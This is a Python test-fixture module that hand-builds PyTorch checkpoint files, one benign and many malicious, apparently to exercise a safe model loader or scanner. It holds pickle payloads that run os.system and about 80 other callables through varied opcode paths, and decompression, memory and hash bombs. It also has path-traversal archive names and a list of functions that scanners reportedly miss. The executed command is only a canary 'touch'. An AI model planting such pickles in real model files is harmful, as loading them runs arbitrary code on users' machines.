"""PyTorch files written by hand, opcode by opcode, and what people have hidden in them.

Nothing here imports PyTorch, and no pickle is ever loaded. `good` makes a small state dict; the
others do harm: they call functions, or cost far more than their size.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence
from types import MappingProxyType

PROTO, STOP, MARK, EMPTY_DICT, EMPTY_TUPLE, EMPTY_LIST = b"\x80\x02", b".", b"(", b"}", b")", b"]"
TUPLE, TUPLE1, TUPLE2, REDUCE, SETITEMS, BUILD = b"t", b"\x85", b"\x86", b"R", b"u", b"b"
PERSISTENT, NEWFALSE, POP, APPENDS, NONE = b"Q", b"\x89", b"0", b"e", b"N"  # fmt: skip
MAGIC = 0x1950A86A20F9469CFC6C


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    if -(1 << 31) <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    size = value.bit_length() // 8 + 1
    return b"\x8a" + bytes([size]) + value.to_bytes(size, "little", signed=True)


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def numbers(values: Sequence[int]) -> bytes:
    return MARK + b"".join(map(number, values)) + TUPLE


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + MARK + b"".join(arguments) + TUPLE + REDUCE


def storage(key: str, count: int, kind: str = "FloatStorage", module: str = "torch") -> bytes:
    return (
        MARK + text("storage") + name(module, kind) + text(key) + text("cpu") + number(count)
        + TUPLE + PERSISTENT
    )  # fmt: skip


def tensor(
    key: str, count: int, shape: Sequence[int], *, strides: Sequence[int] | None = None,
    offset: int = 0, kind: str = "FloatStorage",
) -> bytes:  # fmt: skip
    if strides is None:
        steps, strides = 1, []
        for size in reversed(shape):
            strides.insert(0, steps)
            steps *= size
    return (
        name("torch._utils", "_rebuild_tensor_v2") + MARK + storage(key, count, kind)
        + number(offset) + numbers(shape) + numbers(strides) + NEWFALSE
        + name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    )  # fmt: skip


def state(items: Mapping[str | bytes, bytes]) -> bytes:
    """A pickle of a dictionary; keys that are bytes are opcodes."""
    body = b"".join((text(k) if isinstance(k, str) else k) + v for k, v in items.items())
    return PROTO + EMPTY_DICT + MARK + body + SETITEMS + STOP


def packed(
    pickle: bytes, storages: Mapping[str, bytes] | None = None, how: int = zipfile.ZIP_STORED,
    *, top: str = "archive", more: Mapping[str, bytes] | None = None,
) -> bytes:  # fmt: skip
    """The ZIP that `torch.save` writes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as archive:
        archive.writestr(f"{top}/data.pkl", pickle)
        archive.writestr(f"{top}/byteorder", b"little")
        for key, data in (storages or {}).items():
            archive.writestr(f"{top}/data/{key}", data)
        archive.writestr(f"{top}/version", b"3\n")
        for key, data in (more or {}).items():
            archive.writestr(key, data)
    return made.getvalue()


def legacy(pickle: bytes, storages: Mapping[str, tuple[int, bytes]] | None = None) -> bytes:
    """Several pickles and then the numbers, as PyTorch wrote until 1.5."""
    there = storages or {}
    magic = b"\x8a\x0a" + MAGIC.to_bytes(10, "little")
    facts = PROTO + EMPTY_DICT + MARK + text("little_endian") + b"\x88" + SETITEMS + STOP
    keys = PROTO + EMPTY_LIST + MARK + b"".join(map(text, there)) + APPENDS + STOP
    return (
        PROTO + magic + STOP + PROTO + number(1001) + STOP + facts + pickle + keys
        + b"".join(struct.pack("<q", count) + data for count, data in there.values())
    )  # fmt: skip


ROWS, COLUMNS = 4, 6
FLOATS = struct.pack("<24f", *range(24))


def weights() -> dict[str | bytes, bytes]:
    return {"fc.weight": tensor("0", 24, (ROWS, COLUMNS)), "fc.bias": tensor("1", 4, (4,))}


def good() -> tuple[bytes, ...]:
    """State dicts that are in order: today's file and the older one."""
    data = {"0": FLOATS, "1": FLOATS[:16]}
    old = state({"fc.weight": _old("0", 24, (4, 6)), "fc.bias": _old("1", 4, (4,))})
    wrapped = state({"epoch": number(3), "state_dict": state(weights())[2:-1]})
    return (
        packed(state(weights()), data),
        packed(wrapped, data),
        legacy(old, {"0": (24, FLOATS), "1": (4, FLOATS[:16])}),
    )


def _old(key: str, count: int, shape: Sequence[int]) -> bytes:
    """A tensor of the older file, whose storages also say what they are a view of."""
    now = storage(key, count)
    return tensor(key, count, shape).replace(now, now[: -len(TUPLE + PERSISTENT)] + NONE + TUPLE
                                             + PERSISTENT)  # fmt: skip


def _doubled(levels: int) -> bytes:
    """Tuples of two references to the tuple before: its hash visits 2ⁿ of them."""
    body = EMPTY_TUPLE + b"q\x00" + POP
    for n in range(levels):
        body += b"h%ch%c" % (n, n) + TUPLE2 + b"q%c" % (n + 1) + POP
    return body + b"h%c" % levels


def _deep(levels: int) -> bytes:
    return PROTO + EMPTY_TUPLE + TUPLE1 * levels + STOP


def _bombs() -> dict[str, Callable[[], bytes]]:
    big = b"\xff" * 8
    return {
        "a dictionary whose key takes 2²⁵⁰ steps to hash": (
            lambda: packed(PROTO + EMPTY_DICT + MARK + _doubled(250) + NONE + SETITEMS + STOP)),
        "the same in the older file": (
            lambda: legacy(PROTO + EMPTY_DICT + MARK + _doubled(250) + NONE + SETITEMS + STOP)),
        "a set whose member takes 2²⁵⁰ steps to hash": (
            lambda: packed(PROTO + call("builtins", "set", EMPTY_LIST + MARK + _doubled(250)
                                        + APPENDS) + STOP)),
        "24 byte arrays of 400 MB": (
            lambda: packed(state({f"k{n}": call("builtins", "bytearray", number(400_000_000))
                                  for n in range(24)}))),
        "text encoded to 4 GB": (
            lambda: packed(state({"k": call("_codecs", "encode", call(
                "builtins", "str", number(10**9)), text("utf-8"))}))),
        "a range as a list": (
            lambda: packed(state({"k": call("builtins", "list", call(
                "builtins", "range", number(1 << 33)))}))),
        "tuples a million deep": (lambda: packed(_deep(1_000_000))),
        "a memo of two billion places": (
            lambda: packed(PROTO + NONE + b"r\xff\xff\xff\x7f" + STOP)),
        "text of 16 exabytes": (lambda: packed(b"\x80\x04\x8d" + big + STOP)),
        "a byte array of 16 exabytes": (lambda: packed(b"\x80\x05\x96" + big + STOP)),
        "a byte array of 1 GB, which is not there": (
            lambda: packed(b"\x80\x05\x96" + struct.pack("<Q", 1 << 30) + STOP)),
        "a whole number of 2 GB": (lambda: packed(b"\x80\x02\x8b\xff\xff\xff\x7f" + STOP)),
        "a whole number of a million digits": (
            lambda: packed(PROTO + b"I" + b"9" * 1_000_000 + b"\n" + STOP)),
        "a frame of 2⁶³ bytes": (
            lambda: packed(b"\x80\x04\x95" + struct.pack("<Q", 1 << 63) + NONE + STOP)),
        "three million empty lists": (
            lambda: packed(PROTO + EMPTY_LIST + MARK + EMPTY_LIST * 3_000_000 + APPENDS
                           + STOP)),
        "a storage of 400 MB in 400 kB": (
            lambda: packed(state({"w": tensor("0", 100_000_000, (10_000, 10_000))}),
                           {"0": bytes(400_000_000)}, zipfile.ZIP_DEFLATED)),
        "a tensor of 10¹² copies of one number": (
            lambda: packed(state({"w": tensor("0", 1, (1_000_000, 1_000_000), strides=(0, 0))}),
                           {"0": bytes(4)})),
        "a thousand tensors of 10⁸ copies": (
            lambda: packed(state({f"w{n}": tensor("0", 1, (10_000, 10_000), strides=(0, 0))
                                  for n in range(1000)}), {"0": bytes(4)})),
        "fifty thousand views of one storage": (
            lambda: packed(state({f"w{n}": tensor("0", 1_000_000, (1000, 1000))
                                  for n in range(50_000)}), {"0": bytes(4_000_000)})),
        "a tensor of 200 dimensions": (
            lambda: packed(state({"w": tensor("0", 1, (1,) * 200)}), {"0": bytes(4)})),
        "a tensor of 2⁶² numbers": (
            lambda: packed(state({"w": tensor("0", 24, (1 << 31, 1 << 31))}), {"0": FLOATS})),
        "a tensor of less than nothing": (
            lambda: packed(state({"w": tensor("0", 24, (-4, -6))}), {"0": FLOATS})),
        "a tensor that begins before its storage": (
            lambda: packed(state({"w": tensor("0", 24, (4,), offset=-(1 << 40))}), {"0": FLOATS})),
        "a tensor that steps back": (
            lambda: packed(state({"w": tensor("0", 24, (4,), strides=(-1,))}), {"0": FLOATS})),
        "a tensor beyond its storage": (
            lambda: packed(state({"w": tensor("0", 10**9, (10**9,))}), {"0": FLOATS})),
        "a storage that is not there": (lambda: packed(state(weights()))),
        "a storage of a kind nobody knows": (
            lambda: packed(state({"w": tensor("0", 24, (4, 6), kind="EvilStorage")}),
                           {"0": FLOATS})),
        "an older file whose storage is 2⁶² numbers long": (
            lambda: legacy(state({"w": _old("0", 24, (4, 6))}), {"0": (1 << 62, FLOATS)})),
        "an older file whose storage is less than nothing": (
            lambda: legacy(state({"w": _old("0", 24, (4, 6))}), {"0": (-1, FLOATS)})),
        "names that leave the folder": (
            lambda: packed(state(weights()), {"../../canary": FLOATS, "1": FLOATS})),
        "two pickles of one name": (
            lambda: packed(state(weights()), {"0": FLOATS, "1": FLOATS[:16]},
                           more={"archive/data.pkl": PROTO + EMPTY_DICT + STOP})),
        "two folders, a pickle in each": (
            lambda: packed(state(weights()), {"0": FLOATS, "1": FLOATS[:16]},
                           more={"other/data.pkl": PROTO + EMPTY_DICT + STOP})),
        "an encrypted archive": (lambda: _encrypted(good()[0])),
        "a hundred thousand members": (lambda: _members(100_000)),
        "a ZIP that is also a picture": (
            lambda: b"\x89PNG\r\n\x1a\n" + bytes(100) + good()[0]),
        "keys that are no text": (lambda: packed(state({number(3): NONE, EMPTY_TUPLE: NONE}))),
        "keys of a million letters": (
            lambda: packed(state({"k" * 1_000_000: tensor("0", 24, (4, 6))}), {"0": FLOATS})),
        "keys with escapes and marks": (
            lambda: packed(state({"\x1b[2J\u202e\ud800\x00/../x": tensor("0", 24, (4, 6))}),
                           {"0": FLOATS})),
        "no weights": (lambda: packed(state({}))),
        "zero classes": (
            lambda: packed(state({"fc.weight": tensor("0", 0, (0, 512)),
                                  "fc.bias": tensor("1", 0, (0,))}), {"0": b"", "1": b""})),
        "a tensor on the meta device": (
            lambda: packed(state({"w": call(
                "torch._utils", "_rebuild_meta_tensor_no_storage", name("torch", "float32"),
                numbers((10**6, 10**6)), numbers((10**6, 1)), NEWFALSE)}))),
        "a quantised tensor": (
            lambda: packed(state({"w": call(
                "torch._utils", "_rebuild_qtensor", storage("0", 24, "QInt8Storage"), number(0),
                numbers((4, 6)), numbers((6, 1)), MARK + name("torch", "per_tensor_affine")
                + number(1) + number(0) + TUPLE, NEWFALSE)}), {"0": FLOATS})),
        "a sparse tensor": (
            lambda: packed(state({"w": call(
                "torch._utils", "_rebuild_sparse_tensor", name("torch", "sparse_coo"),
                MARK + tensor("0", 24, (4, 6)) + tensor("0", 24, (4, 6))
                + numbers((10**6, 10**6)) + TUPLE)}), {"0": FLOATS})),
        "a list in itself": (
            lambda: packed(PROTO + EMPTY_LIST + b"q\x00" + MARK + b"h\x00" + APPENDS + STOP)),
        "a dictionary in itself": (
            lambda: packed(PROTO + EMPTY_DICT + b"q\x00" + MARK + text("state_dict") + b"h\x00"
                           + SETITEMS + STOP)),
    }  # fmt: skip


def _encrypted(data: bytes) -> bytes:
    whole = bytearray(data)
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        start = whole.find(mark)
        while start >= 0:
            whole[start + at] |= 1
            start = whole.find(mark, start + 4)
    return bytes(whole)


def _members(count: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", state(weights()))
        for n in range(count):
            archive.writestr(zipfile.ZipInfo(f"archive/data/{n}"), b"")
    return made.getvalue()


# What is called when it is loaded, by module and name. Scanners of pickles miss most of these.
CALLS: Sequence[tuple[str, str]] = (
    ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("pty", "spawn"),
    ("subprocess", "call"), ("subprocess", "Popen"), ("builtins", "exec"), ("builtins", "eval"),
    ("__builtin__", "eval"), ("builtins", "__import__"), ("builtins", "getattr"),
    ("builtins", "compile"), ("importlib", "import_module"), ("runpy", "run_path"),
    ("pickle", "loads"), ("_pickle", "loads"), ("torch", "load"), ("torch.hub", "load"),
    ("torch.storage", "_load_from_bytes"), ("torch.jit", "load"), ("torch.serialization", "load"),
    ("torch._inductor.codecache", "PyCodeCache.load"), ("torch.utils.collect_env", "run"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch._dynamo.guards", "GuardBuilder"),
    ("numpy.testing._private.utils", "runstring"), ("numpy", "load"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.f2py.crackfortran", "myeval"),
    ("timeit", "timeit"), ("cProfile", "run"),
    ("profile", "run"), ("pdb", "run"), ("bdb", "Bdb.run"), ("trace", "Trace.run"),
    ("doctest", "debug_script"), ("code", "InteractiveInterpreter.runcode"), ("ctypes", "CDLL"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("lib2to3.pgen2.pgen", "make_grammar"),
    ("idlelib.run", "Executive.runcode"), ("distutils.spawn", "spawn"), ("venv", "create"),
    ("webbrowser", "open"), ("urllib.request", "urlopen"), ("http.client", "HTTPSConnection"),
    ("ssl", "get_server_certificate"), ("logging.config", "valid_ident"),
    ("operator", "attrgetter"), ("operator", "methodcaller"), ("functools", "partial"),
    ("functools", "reduce"),
    ("types", "FunctionType"), ("types", "CodeType"), ("marshal", "loads"), ("shutil", "rmtree"),
    ("os", "remove"), ("builtins", "open"), ("io", "open"), ("pathlib", "Path.write_text"),
    ("pip", "main"), ("pydoc", "pipepager"), ("smtplib", "SMTP"), ("sqlite3", "connect"),
    ("transformers", "pipeline"), ("keras.models", "load_model"), ("joblib", "load"),
    ("cloudpickle", "loads"), ("dill", "loads"), ("torch.nn.modules.linear", "Linear"),
    ("__main__", "Net"), ("", ""), ("os\u200b", "system"), ("os.path", "os.system"),
)  # fmt: skip


def calling(canary: str) -> dict[str, Callable[[], bytes]]:
    """Files that would make the file `canary` if a function they name were called."""
    command = text(f"touch {canary}")
    found: dict[str, Callable[[], bytes]] = {}
    for module, attribute in CALLS:
        body = call(module, attribute, command)
        found[f"{module}.{attribute}"] = lambda body=body: packed(PROTO + body + STOP)
    evil = call("os", "system", command)
    inst = MARK + command + b"ios\nsystem\n"
    stack = b"\x80\x04" + text("os") + text("system") + b"\x93" + command + TUPLE1 + REDUCE + STOP
    return {
        **found,
        "a bare pickle": (lambda: PROTO + evil + STOP),
        "in the older file": (lambda: legacy(PROTO + evil + STOP)),
        "in the older file's first pickle": (
            lambda: PROTO + evil + STOP + legacy(state(weights()))),
        "in the older file's list of keys": (
            lambda: legacy(state(weights())) + PROTO + evil + STOP),
        "before the weights, and dropped": (
            lambda: packed(PROTO + evil + POP + state(weights())[2:],
                           {"0": FLOATS, "1": FLOATS[:16]})),
        "as a tensor's storage": (
            lambda: packed(PROTO + MARK + text("storage") + evil + text("0") + text("cpu")
                           + number(1) + TUPLE + PERSISTENT + STOP)),
        "as a name from the stack": (lambda: packed(stack)),
        "as INST": (lambda: packed(PROTO + inst + STOP)),
        "as OBJ": (lambda: packed(PROTO + MARK + name("os", "system") + command + b"o" + STOP)),
        "as NEWOBJ": (
            lambda: packed(PROTO + name("os", "system") + command + TUPLE1 + b"\x81" + STOP)),
        "as an extension": (lambda: packed(PROTO + b"\x82\x01" + STOP)),
        "as __setstate__": (
            lambda: packed(PROTO + call("collections", "OrderedDict") + EMPTY_DICT + MARK
                           + text("__setstate__") + name("os", "system") + SETITEMS + BUILD
                           + command + BUILD + STOP)),
        "as __reduce_ex__ of a dictionary": (
            lambda: packed(PROTO + call("builtins", "dict") + EMPTY_DICT + MARK + text("update")
                           + name("builtins", "eval") + SETITEMS + BUILD + STOP)),
        "with the ZIP's pickle twice": (
            lambda: packed(state(weights()), {"0": FLOATS, "1": FLOATS[:16]},
                           more={"archive/data.pkl": PROTO + evil + STOP})),
        "a ZIP behind a pickle": (lambda: PROTO + evil + STOP + good()[0]),
        "a pickle behind a ZIP": (lambda: good()[0] + PROTO + evil + STOP),
        "TorchScript": (
            lambda: packed(PROTO + name("__torch__", "Net") + EMPTY_TUPLE + b"\x81" + STOP, {},
                           more={"archive/constants.pkl": PROTO + EMPTY_TUPLE + STOP,
                                 "archive/code/__torch__.py": b"import os\nos.system('touch x')"})),
        "an exported program": (
            lambda: packed(PROTO + NONE + STOP, {}, top="model",
                           more={"model/models/model.json": b"{}",
                                 "model/archive_format": b"pt2"})),
        "a whole module": (
            lambda: packed(PROTO + name("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE
                           + b"\x81" + EMPTY_DICT + BUILD + STOP)),
        "a TAR of 2016": (lambda: _tar(PROTO + evil + STOP)),
    }  # fmt: skip


def _tar(pickle: bytes) -> bytes:
    import tarfile

    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for member, body in (("sys_info", PROTO + EMPTY_DICT + STOP), ("pickle", pickle),
                             ("../canary", b"x")):  # fmt: skip
            info = tarfile.TarInfo(member)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return made.getvalue()


BOMBS: Mapping[str, Callable[[], bytes]] = MappingProxyType(_bombs())
